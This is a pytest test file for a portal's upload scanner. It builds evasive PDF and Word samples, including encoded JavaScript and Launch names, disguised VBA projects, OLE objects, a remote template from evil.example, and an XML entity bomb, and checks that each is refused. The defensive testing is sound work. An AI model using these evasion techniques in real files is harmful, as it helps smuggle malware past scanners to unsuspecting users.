"""The default upload scan parses files instead of grepping bytes (issue 11, item 7).

Every file is built here: raw PDF bytes for the name-encoding evasions (``/J#61vaScript``
is ``/JavaScript`` to every PDF reader), pikepdf for a script hidden in a compressed object
stream, fpdf2 for ordinary PDFs, zipfile for Word packages and a tiny compound-file (OLE)
writer for VBA projects. Before this change each evasion below came back *clean*.
"""

from __future__ import annotations

import io
import os
import socket
import struct
import threading
import time
import zipfile

import pikepdf
import pytest
from fpdf import FPDF

from clientcenter.models import Document
from clientcenter.services.files.scanning import basic_scan
from clientcenter.services.portal import documents
from clientcenter.services.portal.documents import UploadRefused
from clientcenter.settings import reset_settings_cache
from tests.support.checks import table_counts
from tests.support.demo import PAT, customer
from tests.support.files import PNG_1PX, sample_docx, sample_pdf

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def clamd_scan(data: bytes, content_type: str):
    from clientcenter.services.files.scanning import clamd_scan as scan  # new in this change

    return scan(data, content_type)


# --- PDF builders ---------------------------------------------------------------------------


def raw_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """A well-formed PDF (correct xref) from object bodies; objects 4… are ``more``."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> "
        + page_extra
        + b" >>",
        *more,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def js_in_object_stream() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example')")
        )
    )
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = out.getvalue()
    assert b"JavaScript" not in data and b"/JS" not in data and b"/ObjStm" in data
    return data


EVIL_PDFS = {
    "J#61vaScript": (
        raw_pdf(b"/OpenAction 4 0 R", b"", b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "runs a script when it is opened",
    ),
    "L#61unch": (
        raw_pdf(
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
            b"/A << /S /L#61unch /F (cmd.exe) >> >>",
        ),
        "starts a program (Launch)",
    ),
    "#45mbeddedFiles": (
        raw_pdf(
            b"/Names << /#45mbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (a.exe) /#45F << /F 5 0 R >> >>",
            b"<< /Type /#45mbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        "embedded files",
    ),
    "JavaScript in a FlateDecode object stream": (
        js_in_object_stream(),
        "runs a script when it is opened",
    ),
    "JavaScript name tree": (
        raw_pdf(
            b"/Names << /J#61vaScript << /Names [(x) 4 0 R] >> >>",
            b"",
            b"<< /S /JavaScript /JS (1) >>",
        ),
        "scripts (JavaScript)",
    ),
    "OpenAction /URI": (
        raw_pdf(b"/OpenAction << /S /URI /URI (https://collect.example/?id=1) >>"),
        "opens a web address when it is opened",
    ),
    "page /AA SubmitForm": (
        raw_pdf(b"", b"/AA << /O << /S /SubmitForm /F (https://x.example) >> >>"),
        "sends form data away by itself",
    ),
    "OpenAction GoToR via /Next": (
        raw_pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
            b"",
            b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>",
        ),
        "opens another file when it is opened",
    ),
    "FileAttachment annotation": (
        raw_pdf(
            b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"
        ),
        "embedded files",
    ),
    "RichMedia": (
        raw_pdf(
            b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
        ),
        "rich media",
    ),
    "XFA": (
        raw_pdf(
            b"/AcroForm << /Fields [] /XFA 4 0 R >>",
            b"",
            b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",
        ),
        "XFA form",
    ),
}


@pytest.mark.parametrize("name", list(EVIL_PDFS))
def test_pdf_evasions_are_refused_by_parsing(name):
    data, words = EVIL_PDFS[name]
    verdict = basic_scan(data, PDF)
    assert verdict.status == "rejected", name
    assert words in verdict.reason, verdict.reason


def test_a_pdf_that_does_not_parse_is_refused_with_a_message():
    verdict = basic_scan(b"%PDF-1.7\nthis is not a PDF at all\n%%EOF\n", PDF)
    assert verdict.status == "rejected" and "could not be read" in verdict.reason
    cut = basic_scan(sample_pdf()[:-200], PDF)
    assert cut.status == "rejected" and "incomplete or damaged" in cut.reason


def test_a_password_protected_pdf_is_refused_because_it_cannot_be_checked():
    pdf = pikepdf.open(io.BytesIO(sample_pdf()))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="secret"))
    verdict = basic_scan(out.getvalue(), PDF)
    assert verdict.status == "rejected" and "password-protected" in verdict.reason


def test_ordinary_pdfs_pass_links_and_words_included():
    assert basic_scan(sample_pdf(), PDF).status == "clean"
    doc = FPDF()
    doc.add_page()
    doc.set_font("helvetica", size=12)
    doc.cell(text="Our claims page", link="https://harborandmain.example/claims")
    doc.ln()
    doc.set_compression(False)
    # Only words on the page: the old byte grep refused this file, a parser does not.
    doc.cell(text="Disable /JavaScript and /Launch in your reader's settings.")
    data = bytes(doc.output())
    assert b"/JavaScript" in data and b"/URI" in data
    assert basic_scan(data, PDF).status == "clean"


# --- Word builders ---------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
MAIN_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(*overrides: tuple[str, str], defaults: tuple[tuple[str, str], ...] = ()) -> str:
    items = [
        ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
        ("xml", "application/xml"),
        ("png", "image/png"),
        *defaults,
    ]
    body = "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in items)
    body += f'<Override PartName="/word/document.xml" ContentType="{MAIN_CT}"/>'
    body += "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f"{body}</Types>"
    )


def rels(*items: tuple[str, str, str | None]) -> str:
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{t}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (t, target, mode) in enumerate(items, 10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    )


def docx(
    *,
    types: str | None = None,
    document_rels: str | None = None,
    extra: dict[str, bytes | str] | None = None,
) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types or content_types())
        zf.writestr("_rels/.rels", rels((f"{W}/officeDocument", "word/document.xml", None)))
        zf.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            '2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body>'
            "</w:document>",
        )
        zf.writestr(
            "word/_rels/document.xml.rels",
            document_rels
            or rels(
                (f"{W}/hyperlink", "https://harborandmain.example/", "External"),
                (f"{W}/image", "media/image1.png", None),
            ),
        )
        zf.writestr("word/media/image1.png", PNG_1PX)
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3) holding ``streams`` ("VBA/dir" makes a storage
    "VBA" with a stream "dir"). Every stream is padded to 4096 bytes so that none lives in
    the mini stream, which keeps this writer short."""
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [{"name": "Root Entry", "type": 5, "children": []}]
    storages = {"": 0}
    for path in streams:
        parent = ""
        for part in path.split("/")[:-1]:
            key = f"{parent}/{part}".strip("/")
            if key not in storages:
                storages[key] = len(entries)
                entries.append({"name": part, "type": 1, "children": []})
                entries[storages[parent]]["children"].append(storages[key])
            parent = key
        entries.append(
            {
                "name": path.split("/")[-1],
                "type": 2,
                "children": [],
                "data": streams[path].ljust(4096, b"\0"),
            }
        )
        entries[storages[parent]]["children"].append(len(entries) - 1)
    dir_sectors = (len(entries) + 3) // 4
    sector = 1 + dir_sectors  # sector 0 is the FAT
    fat = [fat_sect] + [i + 2 for i in range(dir_sectors - 1)] + [end]
    body = b""
    for e in entries:
        if "data" in e:
            count = len(e["data"]) // 512
            e["start"] = sector
            fat += [sector + i + 1 for i in range(count - 1)] + [end]
            sector += count
            body += e["data"]
    assert len(fat) <= 128
    for e in entries:  # siblings as a right-leaning chain (all black): valid enough
        kids = sorted(
            e["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper())
        )
        e["child"] = kids[0] if kids else nostream
        for a, b in zip(kids, kids[1:]):
            entries[a]["right"] = b
    directory = b""
    for e in entries:
        name = e["name"].encode("utf-16-le") + b"\0\0"
        directory += (
            name.ljust(64, b"\0")
            + struct.pack("<HBB", len(name), e["type"], 1)
            + struct.pack("<III", nostream, e.get("right", nostream), e["child"])
            + b"\0" * 36
            + struct.pack("<I", e.get("start", end))
            + struct.pack("<Q", len(e.get("data", b"")))
        )
    directory = directory.ljust(dir_sectors * 512, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    assert len(header) == 512
    fat_sector = b"".join(struct.pack("<I", v) for v in fat).ljust(512, b"\xff")
    return header + fat_sector + directory + body


VBA_PROJECT = compound_file(
    {
        "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
        "VBA/dir": b"\x01" * 16,
        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
        "VBA/ThisDocument": b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n',
    }
)
OLE_OBJECT = compound_file({"\x01Ole10Native": b"\x10\x00\x00\x00payload.exe\0"})
VBA_CT = "application/vnd.ms-office.vbaProject"


def test_the_test_compound_files_are_real_ole():
    from clientcenter.services.files.scanning import ole_has_macros

    assert ole_has_macros(VBA_PROJECT) and not ole_has_macros(OLE_OBJECT)


EVIL_DOCX = {
    "VBA renamed word/data.bin": (
        docx(
            types=content_types(("/word/data.bin", VBA_CT)),
            document_rels=rels((f"{MS}/vbaProject", "data.bin", None)),
            extra={"word/data.bin": VBA_PROJECT},
        ),
        "macros",
    ),
    "VBA as .bin by a Default content type": (
        docx(
            types=content_types(defaults=(("bin", VBA_CT),)),
            extra={"word/d%61ta.bin": b"not even OLE"},
        ),
        "macros",
    ),
    "VBA hidden as a PNG (olevba)": (docx(extra={"word/media/image2.png": VBA_PROJECT}), "macros"),
    "word/embeddings/oleObject1.bin": (
        docx(
            types=content_types(
                defaults=(("bin", "application/vnd.openxmlformats-officedocument.oleObject"),)
            ),
            document_rels=rels((f"{W}/oleObject", "embeddings/oleObject1.bin", None)),
            extra={"word/embeddings/oleObject1.bin": OLE_OBJECT},
        ),
        "embedded object or program",
    ),
    "an OLE object under a plain name": (
        docx(extra={"word/media/chart.emf": OLE_OBJECT}),
        "embedded object or program (OLE)",
    ),
    "external attachedTemplate": (
        docx(
            types=content_types(
                (
                    "/word/settings.xml",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                )
            ),
            extra={
                "word/settings.xml": "<w:settings xmlns:w='x'/>",
                "word/_rels/settings.xml.rels": rels(
                    (f"{W}/attachedTemplate", "https://evil.example/t.dotm", "External")
                ),
            },
        ),
        "a template from another address (attachedTemplate)",
    ),
    "external frame": (
        docx(document_rels=rels((f"{W}/frame", "https://evil.example/f.html", "External"))),
        "a frame from another address",
    ),
    "remote image": (
        docx(document_rels=rels((f"{W}/image", "file://attacker/share/a.png", "external"))),
        "a picture from another address",
    ),
    "macro-enabled main part (a .docm renamed)": (
        docx(
            types=content_types().replace(
                MAIN_CT, "application/vnd.ms-word.document.macroEnabled.main+xml"
            )
        ),
        "macros",
    ),
    "ActiveX control": (
        docx(
            types=content_types(
                ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
            ),
            extra={"word/activeX/activeX1.xml": "<ax/>"},
        ),
        "ActiveX",
    ),
    "embedded workbook with macros": (
        docx(extra={"word/embeddings/Sheet.xlsx": docx(extra={"xl/vbaProject.bin": VBA_PROJECT})}),
        "macros",
    ),
}


@pytest.mark.parametrize("name", list(EVIL_DOCX))
def test_docx_evasions_are_refused_by_their_package(name):
    data, words = EVIL_DOCX[name]
    verdict = basic_scan(data, DOCX)
    assert verdict.status == "rejected", name
    assert words in verdict.reason, verdict.reason


def test_entity_expansion_is_refused_not_expanded():
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">'
        + "".join(
            f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")
        )
        + ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="x" ContentType="&i;"/></Types>'
    )
    started = time.monotonic()
    verdict = basic_scan(docx(types=bomb), DOCX)
    assert verdict.status == "rejected" and "damaged" in verdict.reason
    assert time.monotonic() - started < 2


def test_damaged_and_ordinary_word_files():
    assert basic_scan(docx(), DOCX).status == "clean"  # hyperlink, image: fine
    assert basic_scan(sample_docx(), DOCX).status == "clean"
    assert basic_scan(b"PK\x03\x04 not really a zip", DOCX).reason.startswith(
        "This Word file looks damaged"
    )
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("word/document.xml", "<a/>")
        zf.writestr("Word/Document.xml", "<b/>")  # the same part name for OPC
    assert "damaged" in basic_scan(twice.getvalue(), DOCX).reason


@pytest.mark.parametrize(
    "name,data",
    [
        ("script.pdf", EVIL_PDFS["J#61vaScript"][0]),
        ("letter.docx", EVIL_DOCX["VBA renamed word/data.bin"][0]),
        ("letter.docx", EVIL_DOCX["external attachedTemplate"][0]),
    ],
)
def test_an_evasion_uploaded_by_a_customer_is_refused_and_stores_nothing(demo, name, data):
    pat = customer(demo, PAT)
    before = table_counts(demo)
    with pytest.raises(UploadRefused, match="can't accept"):
        documents.upload_document(demo, pat, original_name=name, data=data)
    assert table_counts(demo) == before


# --- ClamAV (clamd) -----------------------------------------------------------------------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class FakeClamd:
    """Speaks clamd's INSTREAM on a loopback TCP port or a unix socket, checks the framing,
    and answers FOUND when the stream holds the EICAR test string."""

    def __init__(self, unix_path: str | None = None, reply: bytes | None = None):
        family = socket.AF_UNIX if unix_path else socket.AF_INET
        self.server = socket.socket(family, socket.SOCK_STREAM)
        self.server.bind(unix_path or ("127.0.0.1", 0))
        self.server.listen(4)
        self.address = unix_path or "127.0.0.1:%d" % self.server.getsockname()[1]
        self.reply, self.streams, self.chunks = reply, [], []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _read(self, conn, n: int) -> bytes:
        data = b""
        while len(data) < n:
            part = conn.recv(n - len(data))
            assert part, "client closed mid-stream"
            data += part
        return data

    def _serve(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                assert self._read(conn, 10) == b"zINSTREAM\0"
                stream = b""
                while True:
                    (size,) = struct.unpack("!I", self._read(conn, 4))
                    if size == 0:
                        break
                    self.chunks.append(size)
                    stream += self._read(conn, size)
                self.streams.append(stream)
                found = EICAR in stream
                conn.sendall(
                    self.reply
                    or (b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0")
                )

    def close(self):
        self.server.close()


@pytest.fixture
def clamd(monkeypatch):
    servers = []

    def start(**kw) -> FakeClamd:
        server = FakeClamd(**kw)
        servers.append(server)
        monkeypatch.setenv("CC_SECURITY__CLAMD_ADDRESS", server.address)
        monkeypatch.setenv("CC_SECURITY__CLAMD_TIMEOUT_SECONDS", "2")
        reset_settings_cache()
        return server

    yield start
    for server in servers:
        server.close()


def test_clamd_scan_streams_the_file_and_passes_a_clean_one(clamd):
    server = clamd()
    data = PNG_1PX + os.urandom(200_000)  # more than three 64 KiB chunks
    assert clamd_scan(data, "image/png").status == "clean"
    assert server.streams == [data] and server.chunks[:3] == [64 * 1024] * 3
    assert clamd_scan(sample_pdf(), PDF).status == "clean" and len(server.streams) == 2


def test_clamd_scan_rejects_what_clamav_finds(clamd, tmp_path):
    clamd(unix_path=str(tmp_path / "clamd.ctl"))
    verdict = clamd_scan(PNG_1PX + EICAR, "image/png")
    assert verdict.status == "rejected" and "Eicar-Test-Signature" in verdict.reason


def test_clamd_scan_still_applies_the_structural_checks(clamd):
    server = clamd()
    verdict = clamd_scan(EVIL_PDFS["OpenAction /URI"][0], PDF)
    assert verdict.status == "rejected" and "web address" in verdict.reason
    assert server.streams == []  # refused before ClamAV was asked


def test_clamd_unreachable_or_failing_refuses_with_try_again(clamd, monkeypatch, caplog):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed_port = s.getsockname()[1]
    monkeypatch.setenv("CC_SECURITY__CLAMD_ADDRESS", f"127.0.0.1:{closed_port}")
    reset_settings_cache()
    verdict = clamd_scan(PNG_1PX, "image/png")
    assert verdict.status == "rejected" and "try again in a few minutes" in verdict.reason
    assert "clamd at 127.0.0.1" in caplog.text
    clamd(reply=b"INSTREAM size limit exceeded. ERROR\0")
    assert "too large for our virus scanner" in clamd_scan(PNG_1PX, "image/png").reason


def test_clamd_scan_is_a_configurable_scanner(clamd, monkeypatch, demo):
    clamd()
    monkeypatch.setenv(
        "CC_SECURITY__UPLOAD_SCANNER", "clientcenter.services.files.scanning:clamd_scan"
    )
    reset_settings_cache()
    pat = customer(demo, PAT)
    item = documents.upload_document(demo, pat, original_name="ok.pdf", data=sample_pdf())
    assert demo.get(Document, item.id).scan_status == "clean"
    with pytest.raises(UploadRefused, match="virus scanner flagged"):
        documents.upload_document(demo, pat, original_name="bad.png", data=PNG_1PX + EICAR)
